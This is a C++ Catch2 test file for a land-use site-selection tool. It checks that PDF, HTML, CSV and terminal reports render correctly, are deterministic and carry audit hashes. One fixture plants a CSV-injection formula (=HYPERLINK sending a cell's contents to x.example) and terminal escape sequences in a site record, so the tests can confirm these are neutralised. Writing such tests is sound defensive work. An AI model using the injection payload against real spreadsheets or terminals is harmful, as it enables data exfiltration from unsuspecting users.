// Report documents checked with independent tools: poppler's pdftotext/pdffonts for the
// PDF, headless Chromium for the HTML; plus byte-for-byte determinism.
#include <algorithm>
#include <catch2/catch.hpp>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iomanip>
#include <nlohmann/json.hpp>
#include <regex>
#include <set>
#include <sstream>

#include "../test_support.hpp"
#include "onemap/cli/run.hpp"
#include "onemap/core/plan/plan.hpp"
#include "onemap/gis/base/atomic_file.hpp"
#include "onemap/gis/layer/layer_reader.hpp"
#include "onemap/gis/layer/layer_writer.hpp"

namespace fs = std::filesystem;

namespace {

const std::string kPlan = std::string(ONEMAP_SAMPLE_DIR) + "/g60.toml";
const std::string kSites = std::string(ONEMAP_SAMPLE_DIR) + "/sites.gpkg";

using onemap::test::capture;

std::string slurp(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    return {std::istreambuf_iterator<char>(in), {}};
}

fs::path scratch(const std::string& name) { return onemap::test::scratch("report-" + name); }

int check(const std::vector<std::string>& args) { return onemap::test::runCli(args).code; }

std::vector<std::string> siteIds() {
    const auto sites = onemap::gis::readLayer(kSites);
    std::vector<std::string> ids;
    for (std::size_t i = 0; i < sites.features.size(); ++i)
        ids.push_back(onemap::gis::toString(sites.value(i, "id")));
    return ids;
}

}  // namespace

TEST_CASE("PDF report: A4, embedded CJK font, rule titles and every site id as text", "[report]") {
    const auto dir = scratch("pdf");
    const std::string pdf = (dir / "report.pdf").string();
    REQUIRE(check({"check", kPlan, kSites, "--output", pdf, "--date", "2026-11-24"}) == 1);
    const std::string info = capture("pdfinfo " + pdf);
    CHECK(info.find("595 x 842") != std::string::npos);  // A4 in points
    const std::string fonts = capture("pdffonts " + pdf);
    CHECK(std::regex_search(fonts, std::regex("(WenQuanYi|Noto).*yes")));
    const std::string text = capture("pdftotext " + pdf + " -");
    for (const char* title : {"选址合规性审查报告", "不得占用永久基本农田", "不得占用生态保护红线",
                              "位于城镇开发边界内", "铁路安全退让不少于50米", "容积率不低于1.0",
                              "附录", "SHA-256", "GDAL", "PROJ", "GEOS"}) {
        INFO(title);
        CHECK(text.find(title) != std::string::npos);
    }
    for (const auto& id : siteIds()) {
        INFO(id);
        CHECK(text.find(id) != std::string::npos);
    }
}

TEST_CASE("find report: the brief, free land as the JSON gives it, a page per candidate",
          "[report][find]") {
    const auto dir = scratch("find");
    const std::vector<std::string> args = {"find",       kPlan,       "--area-mu", "150",
                                           "--industry", "集成电路",  "--count",   "3",
                                           "--date",     "2026-11-24"};
    auto run = [&](const std::string& out) {
        auto a = args;
        a.insert(a.end(), {"--output", out});
        const auto r = onemap::test::runCli(a);
        INFO(r.err);
        CHECK(r.code == 0);
    };
    const std::string json = (dir / "r.json").string(), html = (dir / "r.html").string(),
                      pdf = (dir / "r.pdf").string();
    for (const auto& out : {json, html, pdf}) run(out);
    std::ifstream in(json);
    const auto j = nlohmann::json::parse(in);
    const std::string text = capture("pdftotext " + pdf + " -");
    const std::string page = slurp(html);
    for (const auto& doc : {text, page}) {
        CHECK(doc.find("项目选址推荐报告") != std::string::npos);
        CHECK(doc.find("集成电路") != std::string::npos);
        // The free land total as the JSON has it (m², two decimals, thousands separated).
        const double total = j["free_land"]["total_m2"];
        std::ostringstream want;
        want << std::fixed << std::setprecision(2) << total;
        std::string digits = want.str(), grouped;
        const std::size_t dot = digits.find('.');
        for (std::size_t i = 0; i < dot; ++i) {
            if (i > 0 && (dot - i) % 3 == 0) grouped += ',';
            grouped += digits[i];
        }
        grouped += digits.substr(dot);
        INFO(grouped);
        CHECK(doc.find(grouped) != std::string::npos);
        for (const auto& c : j["candidates"])
            CHECK(doc.find(c["id"].get<std::string>()) != std::string::npos);
        CHECK(doc.find("SHA-256") != std::string::npos);
    }
    for (const auto& c : j["candidates"])  // (a PDF table cell may wrap a long name)
        CHECK(page.find(c["park"].get<std::string>()) != std::string::npos);
    for (int k = 1; k <= 3; ++k)
        CHECK(page.find("id=\"site-C-00" + std::to_string(k) + "\"") != std::string::npos);
    CHECK(capture("pdfinfo " + pdf).find("595 x 842") != std::string::npos);
    // Without a file to write, a document has nowhere to go.
    auto bad = args;
    bad.insert(bad.end(), {"--format", "pdf"});
    CHECK(onemap::test::runCli(bad).code == 2);
}

TEST_CASE("HTML report: self-contained, one section per site, deterministic", "[report]") {
    const auto dir = scratch("html");
    const auto a = dir / "a.html", b = dir / "b.html";
    REQUIRE(check({"check", kPlan, kSites, "--output", a.string(), "--date", "2026-11-24"}) == 1);
    REQUIRE(check({"check", kPlan, kSites, "--output", b.string(), "--date", "2026-11-24"}) == 1);
    CHECK(onemap::gis::sha256File(a.string()) == onemap::gis::sha256File(b.string()));
    const std::string html = slurp(a);
    CHECK(html.find("2026-11-24") != std::string::npos);
    // No external references: every image is an embedded PNG.
    CHECK(html.find("src=\"http") == std::string::npos);
    // (std::regex recurses per character: scan by hand through megabytes of base64.)
    const std::string marker = "src=\"data:image/png;base64,";
    std::size_t images = 0, at = 0;
    while ((at = html.find(marker, at)) != std::string::npos) {
        at += marker.size();
        CHECK(html.compare(at, 11, "iVBORw0KGgo") == 0);  // base64 of the PNG signature
        ++images;
    }
    CHECK(html.find("src=\"", 0) != std::string::npos);
    CHECK(images == siteIds().size() + 1);  // overview + one per site
    // The plan file and the input hashes are in the audit appendix.
    CHECK(html.find(onemap::gis::sha256File(kSites)) != std::string::npos);
    CHECK(html.find("no-farmland") != std::string::npos);
}

TEST_CASE("HTML report renders in headless Chromium with one section per site",
          "[report][chromium]") {
    const auto dir = scratch("chromium");
    const auto html = dir / "report.html";
    REQUIRE(check({"check", kPlan, kSites, "--output", html.string(), "--date", "2026-11-24"}) ==
            1);
    const std::string flags =
        " --headless --no-sandbox --disable-gpu --disable-quic --no-first-run "
        "--disable-background-networking"
        " --disable-component-update --disable-sync --user-data-dir=" +
        (dir / "profile").string();
    // The DOM after Chromium has parsed it: count the sections and the decoded images.
    const std::string dom =
        capture("chromium" + flags + " --dump-dom file://" + html.string() + " 2>/dev/null");
    std::set<std::string> sections;
    const std::string marker = "<section id=\"site-";
    for (std::size_t at = 0; (at = dom.find(marker, at)) != std::string::npos;) {
        at += marker.size();
        sections.insert(dom.substr(at, dom.find('"', at) - at));
    }
    const auto ids = siteIds();
    CHECK(sections == std::set<std::string>(ids.begin(), ids.end()));
    const auto png = dir / "report.png";
    capture("chromium" + flags + " --window-size=1280,2400 --screenshot=" + png.string() +
            " file://" + html.string() + " 2>/dev/null");
    REQUIRE(fs::exists(png));
    CHECK(fs::file_size(png) > 50000);  // a page with maps, not a blank one
    fs::create_directories("artifacts");
    fs::copy_file(png, "artifacts/report-chromium.png", fs::copy_options::overwrite_existing);
}

namespace {

// RFC 4180 cells, read independently of the writer: quoted cells may hold , " and newlines.
std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1);
    std::string cell;
    bool quoted = false;
    std::size_t i = text.rfind("\xEF\xBB\xBF", 0) == 0 ? 3 : 0;
    while (i < text.size() && text[i] == '#') i = text.find('\n', i) + 1;  // as_of=… lines
    for (; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"')
                cell += '"', ++i;
            else if (c == '"')
                quoted = false;
            else
                cell += c;
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            rows.back().push_back(cell), cell.clear();
        } else if (c == '\n') {
            rows.back().push_back(cell), cell.clear();
            rows.emplace_back();
        } else {
            cell += c;
        }
    }
    if (rows.back().empty()) rows.pop_back();
    return rows;
}

bool isNumber(const std::string& s) {
    char* end = nullptr;
    std::strtod(s.c_str(), &end);
    return !s.empty() && end == s.c_str() + s.size();
}

// The sample sites with the first one renamed by an attacker: a formula as its id, a
// terminal colour escape in its name, a negative plot ratio.
fs::path hostileSites(const fs::path& dir) {
    auto sites = onemap::gis::readLayer(kSites);
    auto& f = sites.features[0];
    f.values[*sites.fieldIndex("id")] = std::string("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")");
    f.values[*sites.fieldIndex("name")] = std::string("\x1b[31m红色\x1b[0m\x07 -name");
    f.values[*sites.fieldIndex("plot_ratio")] = -0.5;
    const auto path = dir / "hostile.gpkg";
    onemap::gis::writeLayer(path.string(), sites);
    return path;
}

}  // namespace

TEST_CASE("CSV: formula-like text cells are neutralised, numbers stay numbers", "[report][csv]") {
    const auto dir = scratch("csv-injection");
    const auto sites = hostileSites(dir);
    const auto r = onemap::test::runCli(
        {"check", kPlan, sites.string(), "--format", "csv", "--rules", "no-farmland,plot-ratio"});
    REQUIRE(r.code == 1);
    const auto rows = parseCsv(r.out);
    REQUIRE(rows.size() == 1 + 2 * siteIds().size());
    const auto& header = rows[0];
    const auto column = [&](const std::string& name) {
        const auto it = std::find(header.begin(), header.end(), name);
        REQUIRE(it != header.end());
        return static_cast<std::size_t>(it - header.begin());
    };
    for (std::size_t i = 1; i < rows.size(); ++i) {
        REQUIRE(rows[i].size() == header.size());
        for (const auto& cell : rows[i]) {
            INFO(cell);
            // No cell a spreadsheet would evaluate, unless it is a plain number.
            if (!cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos)
                CHECK(isNumber(cell));
        }
    }
    // The hostile site's rows: the text kept whole behind a leading ', the number as is.
    const auto& farm = rows[1];
    const auto& plot = rows[2];
    CHECK(farm[column("site_id")] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")");
    CHECK(plot[column("rule_id")] == "plot-ratio");
    CHECK(plot[column("value")] == "-0.5");
    CHECK(plot[column("verdict")] == "fail");
}

TEST_CASE("Text table: escape sequences in ids and names are shown, not obeyed", "[report][text]") {
    const auto dir = scratch("text-escape");
    const auto sites = hostileSites(dir);
    const auto r = onemap::test::runCli({"check", kPlan, sites.string(), "--rules", "plot-ratio"});
    REQUIRE(r.code == 1);
    CHECK(r.out.find('\x1b') == std::string::npos);
    CHECK(r.out.find('\x07') == std::string::npos);
    CHECK(r.out.find("\\x1B[31m红色\\x1B[0m\\x07 -name") != std::string::npos);
    CHECK(r.out.find("指标值 -0.5（限值 1）") != std::string::npos);
}

TEST_CASE("Report cover: the plan's date, each layer's version, rules not checked",
          "[report][as-of]") {
    const auto dir = scratch("as-of-cover");
    // What the cover must say, read from the plan itself (not from the report).
    const auto plan = onemap::core::Plan::load(kPlan).inForceOn("2022-06-01");
    std::vector<std::pair<std::string, std::string>> versions;
    for (const auto& l : plan.layers)
        if (l.inForce) versions.emplace_back(l.id, l.inForce->from);
    REQUIRE_FALSE(versions.empty());

    SECTION("HTML: 规划基准日 and the versions on the cover, before the first site") {
        const auto html = dir / "r2022.html";
        const auto r = onemap::test::runCli({"check", kPlan, kSites, "--as-of", "2022-06-01",
                                             "--date", "2026-12-06", "-o", html.string()});
        INFO(r.err);
        REQUIRE(r.code != 2);
        const std::string doc = slurp(html);
        const std::string cover = doc.substr(0, doc.find("<section"));
        CHECK(cover.find("报告日期</th><td>2026-12-06") != std::string::npos);
        CHECK(cover.find("规划基准日</th><td><b>2022-06-01") != std::string::npos);
        for (const auto& [layer, from] : versions) {
            INFO(layer);
            CHECK(cover.find("<tr><td>" + layer + "</td><td>" + from + "</td>") !=
                  std::string::npos);
        }
    }
    SECTION("HTML: before farmland's first version, said on the cover; rules not checked") {
        const auto html = dir / "r2020.html";
        const auto r = onemap::test::runCli(
            {"check", kPlan, kSites, "--as-of", "2020-01-01", "-o", html.string()});
        REQUIRE(r.code != 2);
        const std::string doc = slurp(html);
        const std::string cover = doc.substr(0, doc.find("<section"));
        CHECK(cover.find("永久基本农田：2020-01-01 无现行版本 — 未审查") != std::string::npos);
        CHECK(cover.find("未审查规则") != std::string::npos);
        CHECK(cover.find("部分审查") != std::string::npos);
        // Each site's page: the farmland rule is 未审查, never 合规.
        const std::string site = doc.substr(doc.find("<section"));
        CHECK(site.find("未审查") != std::string::npos);
    }
    SECTION("PDF: the first page names the plan's date") {
        const auto pdf = dir / "r2022.pdf";
        REQUIRE(check({"check", kPlan, kSites, "--as-of", "2022-06-01", "-o", pdf.string()}) != 2);
        const std::string first = capture("pdftotext -f 1 -l 1 " + pdf.string() + " -");
        CHECK(first.find("规划基准日") != std::string::npos);
        CHECK(first.find("2022-06-01") != std::string::npos);
        for (const auto& [layer, from] : versions) CHECK(first.find(from) != std::string::npos);
    }
}
